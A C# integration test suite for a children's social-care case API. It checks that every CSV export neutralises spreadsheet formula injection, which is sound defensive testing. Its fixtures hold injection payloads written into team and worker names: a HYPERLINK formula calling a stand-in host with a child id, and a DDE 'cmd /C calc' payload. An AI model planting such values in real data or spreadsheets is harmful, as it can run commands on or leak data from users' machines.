using System.Globalization;
using System.Text;
using Journey.Api.Authorisation;
using Journey.Api.Hosting;
using Journey.IntegrationTests.Infrastructure;
using Microsoft.AspNetCore.Http.Metadata;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using Wolverine.Http;

namespace Journey.IntegrationTests.Api;

/// <summary>
/// Text a spreadsheet would run as a formula (a cell starting with =, +, -, @, tab or carriage return; OWASP
/// "CSV Injection") comes back neutralised, a single quote before it and the cell quoted, in every CSV the
/// service answers, for every role; the service's own numbers stay numbers (decision 71).
/// </summary>
public sealed class CsvFormulaTests(JourneyHost host)
{
    private static readonly char[] FormulaStart = ['=', '+', '-', '@', '\t', '\r'];

    /// <summary>A child held by a team, and worked by a worker, whose names start as a formula would.</summary>
    private async Task<(string Child, string Team, string Worker)> ChildHeldBy(char lead)
    {
        var child = JourneyApi.NewChildId();
        var team = $"{lead}HYPERLINK(\"http://x.example/?{child}\",\"click\")";
        var worker = $"{lead}cmd|' /C calc'!A0 {child}";
        var mash = host.ClientWithTeams("mash.worker.csv", ["MASH"]);
        await mash.RecordOk(child, "contacts", new { receivedAt = "2026-03-02T09:00:00Z", source = "2A", concerns = "c", consent = "Given" });
        await mash.RecordOk(child, "front-door-decisions", new { decidedAt = "2026-03-02T15:00:00Z", outcome = "ReferralForAssessment", rationale = "r", decidedBy = "m" });
        await mash.RecordOk(child, "referrals", new { acceptedAt = "2026-03-02T15:05:00Z" });
        await mash.RecordOk(child, "allocations", new { allocatedAt = "2026-03-03T09:00:00Z", team, worker });
        return (child, team, worker);
    }

    /// <summary>A text cell as the writer must write it: a single quote before the text, the cell quoted, quotes doubled.</summary>
    private static string Neutralised(string text) => $"\"'{text.Replace("\"", "\"\"")}\"";

    [Theory]
    [InlineData('=')]
    [InlineData('+')]
    [InlineData('-')]
    [InlineData('@')]
    public async Task A_team_or_worker_name_a_spreadsheet_would_run_comes_back_neutralised_in_the_measures_csv(char lead)
    {
        var (child, team, worker) = await ChildHeldBy(lead);
        var cancellation = TestContext.Current.CancellationToken;

        var csv = await (await host.ClientFor("auditor.csv", "auditor").GetAsync($"/api/measures.csv?childId={child}", cancellation))
            .Content.ReadAsStringAsync(cancellation);

        var row = csv.Split("\r\n").First(line => line.StartsWith(child + ",", StringComparison.Ordinal));
        row.ShouldEndWith($",{Neutralised(team)},{Neutralised(worker)}");

        // An analyst's answer is rewritten (pseudonyms, no worker); the team stays neutralised through it.
        var analyst = await (await host.ClientFor("analyst.csv", "analyst").GetAsync($"/api/measures.csv?team={Uri.EscapeDataString(team)}", cancellation))
            .Content.ReadAsStringAsync(cancellation);
        analyst.Split("\r\n").Skip(1).Where(line => line.Length > 0).ShouldAllBe(line => line.EndsWith("," + Neutralised(team)));
        analyst.ShouldNotContain(worker.Split(' ')[0]);
    }

    [Fact]
    public void The_writer_neutralises_each_leading_character_OWASP_lists_and_leaves_the_services_numbers_as_numbers()
    {
        string[] texts = ["=1+1", "+1", "-3", "@SUM(A1)", "\tx", "\rx", "plain", "a,b", "", "'quoted"];
        var csv = CsvText.Write("text,number", texts, text => [text, CsvText.Number(-3)]);

        csv.ShouldBe("text,number\r\n" +
                     "\"'=1+1\",-3\r\n\"'+1\",-3\r\n\"'-3\",-3\r\n\"'@SUM(A1)\",-3\r\n\"'\tx\",-3\r\n\"'\rx\",-3\r\n" +
                     "plain,-3\r\n\"a,b\",-3\r\n,-3\r\n'quoted,-3\r\n");
    }

    [Fact]
    public void A_rewrite_copies_what_it_leaves_alone_exactly_and_neutralises_what_it_changes()
    {
        var written = CsvText.Write("child_id,team,elapsed", [1], _ => ["C-1", "=1+1", CsvText.Number(-3)]);

        CsvText.Rewrite(written, _ => true, (column, value, _) => value).ShouldBe(written);
        CsvText.Rewrite(written, column => column != "elapsed", (column, value, _) => column == "child_id" ? "-P" : value)
            .ShouldBe("child_id,team\r\n\"'-P\",\"'=1+1\"\r\n");
    }

    /// <summary>
    /// Every CSV endpoint the service maps (found in its endpoint data source, so one added later is walked too) is
    /// asked for the rows of a child whose team and worker start as formulas; no text cell of any answer, for an
    /// auditor or an analyst, starts with a formula character unless it is one of the service's numbers.
    /// </summary>
    [Fact]
    public async Task No_CSV_endpoint_answers_a_cell_a_spreadsheet_would_run()
    {
        var (child, team, _) = await ChildHeldBy('=');
        var endpoints = CsvEndpoints();
        endpoints.Select(e => e.Route).ShouldContain("/api/measures.csv");
        endpoints.Count.ShouldBeGreaterThanOrEqualTo(10);
        var cancellation = TestContext.Current.CancellationToken;

        foreach (var (route, parameters) in endpoints)
        {
            // Analysts are asked where they may read, pseudonymised; a list that names children to mend is not theirs (decision 99).
            var analystReads = AccessRules.For("GET", route).Pseudonymised;
            foreach (var (client, filter) in new[]
                     {
                         (host.ClientFor("auditor.csv", "auditor"), parameters.Contains("childId") ? $"childId={child}" : parameters.Contains("team") ? $"team={Uri.EscapeDataString(team)}" : ""),
                         (host.ClientFor("analyst.csv", "analyst"), parameters.Contains("team") ? $"team={Uri.EscapeDataString(team)}" : ""),
                     }.Take(analystReads ? 2 : 1))
            {
                var response = await client.GetAsync($"{route}?{filter}", cancellation);
                var text = await response.Content.ReadAsStringAsync(cancellation);
                ((int)response.StatusCode).ShouldBe(200, $"{route}?{filter}: {text}");
                response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv", route);
                foreach (var cell in Cells(text).Skip(1).SelectMany(r => r))
                    (cell.Length == 0 || !FormulaStart.Contains(cell[0]) || decimal.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _))
                        .ShouldBeTrue($"{route}?{filter} answered the cell {cell}");
            }
        }
        var measures = await (await host.ClientFor("auditor.csv", "auditor").GetAsync($"/api/measures.csv?childId={child}", cancellation)).Content.ReadAsStringAsync(cancellation);
        Cells(measures).Skip(1).ShouldContain(row => row.Contains("'" + team), "the walk saw the child's team");
    }

    /// <summary>Every GET answering CSV: by its route's .csv or by the content type it declares, with the query parameters it takes.</summary>
    private List<(string Route, IReadOnlyList<string> Parameters)> CsvEndpoints() => host.Services.GetServices<EndpointDataSource>()
        .SelectMany(s => s.Endpoints).OfType<RouteEndpoint>()
        .Where(e => e.RoutePattern.RawText!.EndsWith(".csv", StringComparison.Ordinal)
                    || e.Metadata.GetOrderedMetadata<IProducesResponseTypeMetadata>().Any(p => p.ContentTypes.Contains("text/csv")))
        .Select(e => (e.RoutePattern.RawText!, (IReadOnlyList<string>)(e.Metadata.GetMetadata<HttpChain>()?.Method.Method.GetParameters().Select(p => p.Name!).ToArray() ?? [])))
        .DistinctBy(e => e.Item1).OrderBy(e => e.Item1, StringComparer.Ordinal).ToList();

    /// <summary>RFC 4180 records, each field's value unquoted.</summary>
    private static List<List<string>> Cells(string text)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted && c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (!quoted && c == ',') { record.Add(field.ToString()); field.Clear(); }
            else if (!quoted && c == '\n') { record.Add(field.ToString()); field.Clear(); records.Add(record); record = []; }
            else if (quoted || c != '\r') field.Append(c);
        }
        return records;
    }
}
